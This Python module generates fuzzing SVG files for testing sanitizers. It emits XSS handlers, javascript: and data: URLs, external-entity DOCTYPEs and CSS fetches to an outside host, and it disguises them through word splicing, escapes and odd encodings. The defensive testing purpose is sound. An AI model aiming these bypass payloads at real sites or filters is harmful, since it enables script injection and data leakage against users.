"""SVG files as an attacker would send them: spliced from what acts or fetches, hidden in the ways that have led filters
astray. The same seed and address, the same files."""

from __future__ import annotations

import random
from typing import Callable
from xml.sax.saxutils import escape, quoteattr

SVG = "http://www.w3.org/2000/svg"
XLINK = "http://www.w3.org/1999/xlink"
XHTML = "http://www.w3.org/1999/xhtml"

# What filters look for: one of these is put into another, so that it is whole once the filter has taken the inner one out.
FORBIDDEN = ("@import", "url", "script", "javascript:", "image-set", "expression", "<!--", "-->", "/*", "*/", "on", "href", "]]>")
PIXEL = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
HANDLERS = ("onload", "onclick", "onbegin", "onend", "onrepeat", "onerror", "onfocusin", "ONLOAD", "onmouseover")
SHAPES = ("g", "rect", "circle", "path", "use", "image", "text", "a", "switch", "symbol", "pattern", "mask", "marker", "clipPath")
PROPERTIES = ("fill", "stroke", "mask", "clip-path", "filter", "marker-start", "cursor", "background", "background-image",
              "list-style-image", "content", "border-image-source", "shape-outside", "offset-path", "src", "mask-image")
ENCODINGS = ("utf-8", "utf-16", "shift_jis", "iso-8859-1", "utf-7")


class Maker:
    """Makes one file after the other."""

    def __init__(self, seed: int, outside: str) -> None:
        """The address is that of a host that none of the files has any business with, without a slash at its end."""
        self.random = random.Random(seed)
        self.outside = outside
        self.number = 0

    def make(self) -> bytes:
        self.number += 1
        drawing = self.document()
        text = f"{self.prologue()}{drawing}"
        encoding = self.choice(ENCODINGS) if self.chance(0.15) else "utf-8"
        declaration = f'<?xml version="1.0" encoding="{encoding}"?>' if encoding != "utf-8" or self.chance(0.3) else ""
        data = (declaration + text).encode(encoding, errors="xmlcharrefreplace")
        return self.damaged(data) if self.chance(0.1) else data

    # MARK: chance

    def chance(self, share: float) -> bool:
        return self.random.random() < share

    def choice(self, *options: object) -> str:
        values = options[0] if len(options) == 1 and isinstance(options[0], tuple) else options
        return str(self.random.choice(values))

    def damaged(self, data: bytes) -> bytes:
        """With some bytes out of place: most are no XML any more."""
        mangled = bytearray(data)
        for _ in range(self.random.randint(1, 3)):
            place = self.random.randrange(len(mangled))
            mangled[place:place + self.random.randint(0, 2)] = self.choice("<", ">", '"', "&", "/", " ", "x", "").encode()
        return bytes(mangled)

    # MARK: where it leads, and what it does there

    def address(self) -> str:
        """Of something that none should fetch, outside or beside the file."""
        name = f"n{self.number}"
        inside = f"beside-{name}.svg"
        return self.choice(
            f"{self.outside}/{name}", f"{self.outside}/{name}.svg#a", self.outside.removeprefix("http:") + f"/{name}",
            f"{inside}#a", inside, f"/{inside}", f"?{name}", f" {self.outside}/{name}", f"{self.outside}\\{name}")

    def script(self) -> str:
        """Tells the page that it has run, and the host outside."""
        return f"parent.acted=(parent.acted||0)+1;new Image().src='{self.outside}/ran-{self.number}'"

    def active_address(self) -> str:
        script = self.script()
        return self.choice(
            f"javascript:{script}", f"java\tscript:{script}", f" JaVaScRiPt:{script}", f"data:text/html,<script>{script}</script>",
            f"data:image/svg+xml,<svg xmlns='{SVG}' onload=\"{script}\"/>", f"data:image/svg+xml;base64,PHN2Zy8+", PIXEL, "#a", "#b", "")

    # MARK: hiding

    def spliced(self, text: str) -> str:
        """With forbidden words inside its own: taking them out makes them whole."""
        for word in self.random.sample(FORBIDDEN, self.random.randint(1, 2)):
            place = self.random.randint(0, len(text))
            text = text[:place] + word + self.choice("", ";", "(", ")") + text[place:]
        return text

    def hidden(self, css: str) -> str:
        """CSS that means the same, or nearly, to whoever reads it as a browser does."""
        way = self.random.randrange(8)
        if way == 0:
            return self.spliced(css)
        if way == 1:
            return self.escaped(css)
        if way == 2:
            return css.upper()
        if way == 3:
            return css.replace("(", "(/**/").replace(":", "/**/:/**/")
        if way == 4:
            return self.choice("}", "{", ")", '"', "\\", "<!--", "/*", "\n", "(") + css
        if way == 5:
            return self.choice("a{b:(", 'a{b:"\n;', "@x;", "@media all{", "@layer a{", "@supports (a:b){", ";") + css
        return css

    def escaped(self, css: str) -> str:
        """Some letters as escapes of CSS."""
        return "".join(
            f"\\{ord(letter):x} " if letter.isalpha() and self.chance(0.15) else f"\\{letter}" if letter in "(:@" and self.chance(0.03)
            else letter for letter in css)

    def reference(self, text: str) -> str:
        """An attribute value in quotes, some of its characters as references of XML."""
        quoted = quoteattr(text)
        if self.chance(0.3):
            return "".join(f"&#x{ord(one):x};" if one.isalpha() and self.chance(0.2) and "&" not in quoted else one for one in quoted)
        return quoted

    # MARK: CSS

    def fetching_value(self) -> str:
        address = self.address()
        return self.choice(
            f"url({address})", f'url("{address}")', f"url( '{address}' )", f'image-set("{address}" 1x)', f'-webkit-image-set(url({address}) 1x)',
            f'image("{address}")', f'src("{address}")', f"cross-fade(url({address}),red,50%)", f'url("#a"),url({address})', f"url(#a) url({address})",
            f"paint(a),url({address})", f"var(--a,url({address}))", f"attr(href type(<url>))", f"expression(parent.acted=1)", "url(#a)", "red",
            f"url({address}", f'url("{address}', f"URL({address})")

    def declaration(self) -> str:
        name = self.choice("fill", "stroke", "opacity", "font-family", "behavior", "-moz-binding", "--a", *PROPERTIES)
        return self.hidden(f"{name}:{self.fetching_value()}")

    def sheet(self) -> str:
        address = self.address()
        rules = [
            self.choice(
                f'@import "{address}";', f"@import url({address});", f"@import url({address}) layer(a) supports(b:c) screen;",
                f'@font-face{{font-family:f;src:url({address})}}text,svg{{font-family:f}}', f'@namespace url({address});', f'@charset "utf-7";',
                f"svg,rect,*{{{self.declaration()}}}", f"rect:hover,*{{{self.declaration()};{self.declaration()}}}",
                f"@media all{{*{{{self.declaration()}}}}}", f"@keyframes k{{from{{{self.declaration()}}}}}*{{animation:k 1s infinite}}",
                f"*{{background:red;{{{self.declaration()}}}}}", f"*{{&{{{self.declaration()}}}}}", f"@property --a{{syntax:'<url>';initial-value:{self.fetching_value()}}}")
            for _ in range(self.random.randint(1, 3))
        ]
        return self.hidden("".join(rules))

    # MARK: XML

    def prologue(self) -> str:
        if not self.chance(0.25):
            return ""
        address = escape(self.address(), {'"': "&quot;"})
        handler = self.script().replace('"', "'")
        return self.choice(
            f'<?xml-stylesheet type="text/css" href="{address}"?>', f'<?xml-stylesheet type="text/xsl" href="{address}"?>',
            f'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "{address}">', f'<!DOCTYPE svg SYSTEM "{address}">',
            f'<!DOCTYPE svg [<!ENTITY e SYSTEM "{address}">]>', f'<!DOCTYPE svg [<!ENTITY % e SYSTEM "{address}"> %e;]>',
            f'<!DOCTYPE svg [<!ATTLIST rect onclick CDATA "{escape(handler)}" style CDATA "fill:url({address})">]>',
            f'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "{escape(handler)}" xmlns:xlink CDATA "{XLINK}">]>')

    def attribute(self) -> str:
        makers: tuple[Callable[[], str], ...] = (
            lambda: f'{self.choice(HANDLERS)}={self.reference(self.script())}',
            lambda: f'style={self.reference(";".join(self.declaration() for _ in range(self.random.randint(1, 3))))}',
            lambda: f'{self.choice(PROPERTIES)}={self.reference(self.hidden(self.fetching_value()))}',
            lambda: f'{self.choice("href", "xlink:href", "src", "data", "xml:base")}={self.reference(self.choice(self.address(), self.active_address()))}',
            lambda: f'{self.choice("class", "id")}="{self.choice("a", "b", "c")}"',
            lambda: f'{self.choice("x", "width", "d", "transform", "viewBox")}={self.reference(self.choice("9", "M0 0h9", self.address()))}')
        return self.random.choice(makers)()

    def attributes(self) -> str:
        """Of different names: two of one name are no XML."""
        made = {one.split("=", 1)[0]: one for one in (self.attribute() for _ in range(self.random.randint(0, 3)))}
        return "".join(f" {one}" for one in made.values())

    def animation(self) -> str:
        name = self.choice("href", "xlink:href", "fill", "mask", "style", "onclick", "x", "filter", "src", "class")
        value = self.choice(self.active_address(), self.address(), self.fetching_value(), self.script())
        element = self.choice("set", "animate", "animateTransform")
        # What it seems to animate, to whoever overlooks a namespace.
        decoy = ' xmlns:d="d" d:attributeName="x"' if self.chance(0.3) else ""
        return f'<{element}{decoy} attributeName="{name}" {self.choice("to", "values", "from", "by")}={self.reference(value)} begin="0s" dur="1s" fill="freeze"/>'

    def foreign(self) -> str:
        address, script = quoteattr(self.address()), escape(self.script())
        inside = self.choice(
            f"<h:img src={address}/>", f"<h:iframe src={address}/>", f"<h:script>{script}</h:script>", f'<h:link rel="stylesheet" href={address}/>',
            f'<h:img src="x" onerror={quoteattr(self.script())}/>', f'<h:meta http-equiv="refresh" content={quoteattr("0;url=" + self.address())}/>',
            f"<h:video src={address} autoplay=''/>", f"<h:object data={address}/>", f"<h:embed src={address}/>", f"<h:base href={address}/>",
            f"<h:style>@import url({escape(self.address())});</h:style>", f'<h:div style={self.reference(self.declaration())}/>')
        inside = f'<h:body xmlns:h="{XHTML}">{inside}</h:body>'
        return f'<foreignObject width="9" height="9">{inside}</foreignObject>' if self.chance(0.6) else inside

    def element(self, depth: int) -> str:
        way = self.random.randrange(10)
        if way == 0:
            kind = self.choice("", ' type="text/javascript"')
            return f"<script{kind}>{escape(self.script())}</script>"
        if way == 1:
            return f"<script {self.choice('href', 'xlink:href')}={quoteattr(self.choice(self.address(), self.active_address()))}/>"
        if way == 2:
            sheet = self.sheet()
            is_escaped = self.chance(0.7) or "]]>" in sheet
            return f"<style>{escape(sheet)}</style>" if is_escaped else f"<style><![CDATA[{sheet}]]></style>"
        if way == 3:
            return self.foreign()
        if way == 4:
            return self.animation()
        if way == 5:
            kind = self.choice("image", "feImage", "use", "textPath", "linearGradient", "pattern", "mpath", "audio", "video", "iframe", "handler", "discard")
            return f"<{kind} width='9' height='9' {self.choice('href', 'xlink:href', 'src')}={self.reference(self.choice(self.address(), self.active_address()))}/>"
        shape = self.choice(SHAPES)
        inside = "".join(self.element(depth + 1) for _ in range(self.random.randint(0, 3))) if depth < 3 else ""
        return f"<{shape}{self.attributes()}>{inside}</{shape}>"

    def document(self) -> str:
        inside = "".join(self.element(0) for _ in range(self.random.randint(1, 5)))
        comment = f"<!-- {escape(self.spliced('a').replace('-', ''))} -->" if self.chance(0.2) else ""
        defined = "<g id='a'><rect width='9' height='9'/></g><mask id='b'><rect width='5' height='5'/></mask>"
        return f'<svg xmlns="{SVG}" xmlns:xlink="{XLINK}" width="40" height="30"{self.attributes()}>{comment}{defined}{inside}<text>語</text></svg>'
